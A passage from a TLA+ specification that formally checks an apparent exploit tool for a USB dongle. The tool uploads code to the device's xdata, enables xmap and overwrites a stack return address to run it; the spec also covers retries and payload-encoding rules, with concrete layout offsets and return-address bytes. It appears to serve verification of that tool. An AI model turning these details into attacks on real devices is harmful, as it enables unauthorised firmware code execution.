\* iteration before it ended without one, and the loop is over.
C6_ReturnsOnFirstSuccess ==
    configured > 0 =>
        /\ configured = 1
        /\ new_dev = "Device"
        /\ error = NoError
        /\ retry \in 1..10
        /\ retry = nothing + notresp + 1
        /\ sleeps = retry
        /\ queries = retry
        /\ pc \in {"assert_new_dev", "exit"}

Terminated == pc \in {"exit", "aborted"}

\* C7: the run terminates; the poller makes at most 10 iterations, each one
\* sleep and one query; when no iteration finds and configures a device it
\* returns None after exactly 10 of them, and the caller then fails with
\* "Device fell off USB port" instead of succeeding.
C7_PollerBounded ==
    /\ <>Terminated
    /\ [](retry <= 10 /\ sleeps = retry /\ queries = retry)
    /\ []((configured = 0 /\ retry > 0 /\ pc # "find_new_device") =>
              /\ retry = 10
              /\ nothing + notresp = 10
              /\ new_dev = "None"
              /\ pc \in {"assert_new_dev", "aborted"}
              /\ pc = "aborted" => error.msg = "Device fell off USB port")
    /\ []((pc = "assert_new_dev" /\ new_dev = "None") =>
              (retry = 10 /\ sleeps = 10 /\ queries = 10))
    /\ [][(pc = "assert_new_dev" /\ new_dev = "None") =>
              (pc' = "aborted" /\ error'.type = "AssertionError"
               /\ error'.msg = "Device fell off USB port")]_vars
    /\ [](pc = "exit" => new_dev = "Device")

C7_Witness ==
    /\ pc = "aborted"
    /\ error.msg = "Device fell off USB port"
    /\ configured = 0
    /\ retry = 10
    /\ sleeps = 10
    /\ queries = 10

\* C8: a claim failure while polling (set_configuration raises USBError on
\* a device that was found) is not fatal: it uses up one iteration, returns
\* nothing, raises nothing, and the loop goes on to the next iteration while
\* any is left; no mix of outcomes gives more than 10 iterations.
C8_ClaimFailureTolerated ==
    /\ [][(notresp' = notresp + 1 /\ configured' = configured) =>
              /\ retry' = retry + 1
              /\ sleeps' = sleeps + 1
              /\ queries' = queries + 1
              /\ nothing' = nothing
              /\ new_dev' = "None"
              /\ error' = NoError
              /\ pc' = IF retry' < 10 THEN "find_new_device" ELSE "assert_new_dev"]_vars
    /\ [](retry <= 10 /\ nothing + notresp <= retry)

C8_Witness ==
    /\ new_dev = "Device"
    /\ configured = 1
    /\ notresp >= 2
    /\ nothing >= 2
    /\ retry = 7

\* value of a sequence of decimal digits
RECURSIVE FromDecimal(_)
FromDecimal(ds) ==
    IF ds = <<>> THEN 0 ELSE 10 * FromDecimal(SubSeq(ds, 1, Len(ds) - 1)) + ds[Len(ds)]

\* C9: with a bcdDevice that is no key of MEM_LAYOUTS the run ends in the
\* "not yet supported" error carrying that bcdDevice, without a retry and
\* without any reset, set_configuration or control transfer on the device.
C9_UnsupportedVariant ==
    (dev.found /\ dev.bcdDevice \notin {33681, 2081, 9495} /\ pc # "Dongle") =>
        /\ pc = "aborted"
        /\ error.type = "AssertionError"
        /\ error.msg = "is not yet supported"
        /\ FromDecimal(error.arg) = dev.bcdDevice
        /\ ~dongle.constructed
        /\ devlog = <<>>
        /\ writes = <<>>
        /\ xfers = <<>>
        /\ retry = 0

C9_Witness ==
    /\ pc = "aborted"
    /\ dev.bcdDevice = UnsupportedBcd
    /\ error.msg = "is not yet supported"

\* C11: in every layout of MEM_LAYOUTS the addresses of usb_state, req_state,
\* wptr, addrspace, wlen, data strictly increase in that order, and
\* transfer_buf_start is at most the usb_state address.
C11_LayoutsIncreasing ==
    /\ DOMAIN layouts = {33681, 2081, 9495}
    /\ \A k \in DOMAIN layouts :
           /\ layouts[k].transfer_buf_start <= layouts[k].usb_state
           /\ \A i \in 1..(Len(_conv) - 1) :
                  layouts[k][_conv[i][1]] < layouts[k][_conv[i + 1][1]]
    /\ dongle.constructed =>
           /\ dongle.layout.transfer_buf_start <= dongle.layout.usb_state
           /\ dongle.layout.usb_state < dongle.layout.req_state
           /\ dongle.layout.req_state < dongle.layout.wptr
           /\ dongle.layout.wptr < dongle.layout.addrspace
           /\ dongle.layout.addrspace < dongle.layout.wlen
           /\ dongle.layout.wlen < dongle.layout.data

C11_Witness ==
    /\ dongle.constructed
    /\ dev.bcdDevice = 33681
    /\ dongle.layout = layouts[33681]
    /\ Len(xfers) = 3
\* the address range a transfer makes the firmware write: [first, past)
TargetFirst(p, layout) == Decode16(p, Offset(layout, "wptr")) + 32
TargetPast(p, layout) ==
    TargetFirst(p, layout) + Decode16(p, Offset(layout, "wlen")) - 32

\* C12: every address written by an upload the device accepted, offset ..
\* offset + len(data) - 1, lies inside FREE_SPACE = [0x03a0, 0x1e90): the
\* uploaded size never exceeds len(FREE_SPACE) bytes.
C12_UploadInFreeSpace ==
    \A i \in 1..Len(xfers) :
        (xfers[i].caller = "upload_file_contents" /\ ~xfers[i].raised) =>
            /\ TargetFirst(xfers[i].args.data_or_wLength, dongle.layout) >= 928
            /\ TargetPast(xfers[i].args.data_or_wLength, dongle.layout) <= 7824
            /\ writes[i].call.len <= 7824 - 928
\* the data bytes a transfer carries behind the header fields
DataOf(p, layout) == SubSeq(p, Offset(layout, "data") + 1, Len(p))

\* total length of the first k input files
RECURSIVE LenBefore(_, _)
LenBefore(fs, k) ==
    IF k = 0 THEN 0 ELSE LenBefore(fs, k - 1) + Len(contents(fs[k]))

\* C13: upload writes the file bytes, concatenated in the given order, to
\* 0x03a0 in xdata; enable_xmap writes the byte 0x08 to 0x70C7 in xdata;
\* overwrite_return_address writes the 2 bytes, low byte first, of the load
\* address + 0x8000 to layout.stack_ret in idata.
C13_WriteParameters ==
    \A i \in 1..Len(xfers) :
        LET p == xfers[i].args.data_or_wLength
            layout == dongle.layout
            data == DataOf(p, layout)
            space == p[Offset(layout, "addrspace") + 1]
        IN /\ xfers[i].caller = "upload_file_contents" =>
                  /\ TargetFirst(p, layout) = 928
                  /\ space = 0
                  /\ Len(data) = LenBefore(argv_files, Len(argv_files))
                  /\ \A k \in 1..Len(argv_files) :
                         SubSeq(data, LenBefore(argv_files, k - 1) + 1,
                                LenBefore(argv_files, k)) = contents(argv_files[k])
           /\ xfers[i].caller = "enable_xmap" =>
                  /\ TargetFirst(p, layout) = 28871
                  /\ space = 0
                  /\ data = <<8>>
           /\ xfers[i].caller = "overwrite_return_address" =>
                  /\ TargetFirst(p, layout) = layout.stack_ret
                  /\ layout.stack_ret = 194
                  /\ space = 1
                  /\ Len(data) = 2
                  /\ data[1] + 256 * data[2] =
                         TargetFirst(xfers[1].args.data_or_wLength, layout) + 32768
                  /\ data = <<160, 131>>

C13_Witness ==
    /\ Len(xfers) = 3
    /\ ~xfers[3].raised
    /\ argv_files = <<Bytes(<<171, 7>>, 0), Bytes(<<7>>, 0)>>
    /\ DataOf(xfers[1].args.data_or_wLength, dongle.layout) = <<171, 7, 7>>
\* C14: a wlen value v in 0..65535 is serialized as exactly 2 bytes, low
\* byte first (v mod 256, then v div 256), at the wlen offset; 300 gives
\* 0x2C, 0x01.
C14_WlenLittleEndian ==
    (pc = "encoded" /\ enc_out.err = "none") =>
        LET layout == MEM_LAYOUTS[enc_in.key]
            v == enc_in.kwargs.wlen
            p == enc_out.val
            off == Offset(layout, "wlen")
        IN /\ v \in 0..65535
           /\ p[off + 1] = v % 256
           /\ p[off + 2] = v \div 256
           /\ p[off + 1] \in 0..255 /\ p[off + 2] \in 0..255
           /\ p[off + 1] + 256 * p[off + 2] = v
           /\ \A i \in (off + 3)..Offset(layout, "data") : p[i] = 0
           /\ Len(p) = Offset(layout, "data") + Len(enc_in.kwargs.data)
           /\ v = 300 => (p[off + 1] = 44 /\ p[off + 2] = 1)

C14_Witness ==
    /\ pc = "encoded"
    /\ enc_out.err = "none"
    /\ enc_in.kwargs.wlen = 300
    /\ enc_out.val[Offset(MEM_LAYOUTS[enc_in.key], "wlen") + 1] = 44
AllWritesDone ==
    /\ Len(xfers) = 3
    /\ \A i \in 1..3 : xfers[i].caller = ExploitOrder[i] /\ ~xfers[i].raised

\* C15: a run ends successfully only after all three exploit writes returned
\* without error and the poller, which starts only after the
\* return-address write, has returned a device.
C15_SuccessAfterReappearance ==
    /\ pc = "exit" =>
           /\ AllWritesDone
           /\ new_dev = "Device"
           /\ retry >= 1
           /\ error = NoError
    /\ (retry > 0 \/ sleeps > 0 \/ queries > 0
        \/ pc \in {"find_new_device", "assert_new_dev"}) => AllWritesDone

C15_Witness ==
    /\ pc = "exit"
    /\ new_dev = "Device"
    /\ retry = 3
    /\ Len(xfers) = 3
\* C16: in every layout of MEM_LAYOUTS each field starts at or after the end
\* of the field before it (1 byte for usb_state, req_state, addrspace; 2 for
\* wptr, wlen), so construct_payload never meets a negative padding and
\* never fails on in-range field values.
C16_LayoutsEncodable ==
    /\ \A k \in DOMAIN layouts :
           /\ layouts[k].usb_state - layouts[k].transfer_buf_start >= 0
           /\ layouts[k].req_state - (layouts[k].usb_state + 1) >= 0
           /\ layouts[k].wptr - (layouts[k].req_state + 1) >= 0
           /\ layouts[k].addrspace - (layouts[k].wptr + 2) >= 0
           /\ layouts[k].wlen - (layouts[k].addrspace + 1) >= 0
           /\ layouts[k].data - (layouts[k].wlen + 2) >= 0
    /\ pc = "encoded" =>
           /\ enc_out.err # "ValueError"
           /\ ValidKwargs(enc_in.kwargs) =>
                  (enc_out.err = "none" /\ enc_out.val # <<>>)

C16_Witness ==
    /\ pc = "encoded"
    /\ enc_in.key = 2081
    /\ ValidKwargs(enc_in.kwargs)
    /\ enc_in.kwargs.wptr = 65535
    /\ enc_in.kwargs.wlen = 65535
    /\ enc_out.err = "none"

\* position in _conv of the first field that has no value
FirstAbsentIndex(kwargs) ==
    CHOOSE i \in 1..Len(_conv) :
        /\ _conv[i][1] \notin DOMAIN kwargs
        /\ \A j \in 1..(i - 1) : _conv[j][1] \in DOMAIN kwargs

\* the value of field i fits the field's encoding
FitsField(kwargs, i) ==
    IF _conv[i][2] = "u8" THEN kwargs[_conv[i][1]] \in 0..255
    ELSE IF _conv[i][2] = "u16" THEN kwargs[_conv[i][1]] \in 0..65535
    ELSE TRUE

SomeAbsent(kwargs) == \E n \in FieldNames : n \notin DOMAIN kwargs

\* C17 as stated: with the value of any declared field absent,
\* construct_payload fails and returns no payload, and the first absent
\* field in declared order is the one that raises.
C17_FirstAbsentRaises ==
    (pc = "encoded" /\ SomeAbsent(enc_in.kwargs)) =>
        /\ enc_out.err # "none"
        /\ enc_out.val = <<>>
        /\ enc_out.arg = _conv[FirstAbsentIndex(enc_in.kwargs)][1]

\* C17 amended: with the value of any declared field absent,
\* construct_payload fails and returns no payload; the first absent field in
\* declared order raises (KeyError), unless a field declared before it has a
\* value out of range for its encoding, in which case the first such field
\* raises (OverflowError).
C17_FirstFailingFieldRaises ==
    (pc = "encoded" /\ SomeAbsent(enc_in.kwargs)) =>
        LET kw == enc_in.kwargs
            a == FirstAbsentIndex(kw)
            bad == {j \in 1..(a - 1) : ~FitsField(kw, j)}
        IN /\ enc_out.err # "none"
           /\ enc_out.val = <<>>
           /\ bad = {} => (enc_out.err = "KeyError" /\ enc_out.arg = _conv[a][1])
           /\ bad # {} =>
                  /\ enc_out.err = "OverflowError"
                  /\ \E j \in bad : /\ enc_out.arg = _conv[j][1]
                                    /\ \A l \in bad : j <= l

C17_Witness ==
    /\ pc = "encoded"
    /\ DOMAIN enc_in.kwargs = {"usb_state", "wptr", "addrspace", "data"}
    /\ enc_in.kwargs.wptr = 300
    /\ enc_out.err = "KeyError"
    /\ enc_out.arg = "req_state"
    /\ enc_out.val = <<>>
\* len(b) of a bytes object
BytesLen(b) == Len(b.fill) + b.zeros

\* C18: Dongle.write sends no wrapped pointer or length: with addr < 32 or
\* len(data) + 32 > 65535 the encoding fails and no control transfer is
\* issued; in every transfer issued the wptr and wlen bytes decode to exactly
\* addr - 32 and len(data) + 32.
C18_NoWrappedPointerOrLength ==
    pc = "written" =>
        /\ (w_in.addr < 32 \/ BytesLen(w_in.data) + 32 > 65535) =>
               /\ xfers = <<>>
               /\ devlog = <<>>
               /\ Len(writes) = 1
               /\ writes[1].err = "OverflowError"
               /\ error.type = "OverflowError"
        /\ \A i \in 1..Len(xfers) :
               LET p == xfers[i].args.data_or_wLength
               IN /\ w_in.addr - 32 \in 0..65535
                  /\ BytesLen(w_in.data) + 32 \in 0..65535
                  /\ Decode16(p, Offset(dongle.layout, "wptr")) = w_in.addr - 32
                  /\ Decode16(p, Offset(dongle.layout, "wlen")) =
                         BytesLen(w_in.data) + 32

C18_Witness ==
    /\ pc = "written"
    /\ w_in.addr = 31
    /\ Len(w_in.data.fill) = 1
    /\ xfers = <<>>
    /\ error.type = "OverflowError"

\* C19: in every layout of MEM_LAYOUTS the data field starts a whole number
\* of 32-byte blocks after transfer_buf_start, and wptr, addrspace and wlen
\* lie entirely inside the 32-byte block just before it.
C19_DataBlockAligned ==
    /\ \A k \in DOMAIN layouts :
           LET l == layouts[k]
               block == l.data - 32
           IN /\ (l.data - l.transfer_buf_start) % 32 = 0
              /\ block >= l.transfer_buf_start
              /\ block <= l.wptr /\ l.wptr + 2 <= l.data
              /\ block <= l.addrspace /\ l.addrspace + 1 <= l.data
              /\ block <= l.wlen /\ l.wlen + 2 <= l.data
    /\ \A i \in 1..Len(xfers) :
           LET p == xfers[i].args.data_or_wLength
           IN (Len(p) - writes[i].call.len) % 32 = 0

C19_Witness ==
    /\ dongle.constructed
    /\ dev.bcdDevice = 9495
    /\ Len(xfers) = 3
    /\ Len(xfers[1].args.data_or_wLength) = 416 + 3
====
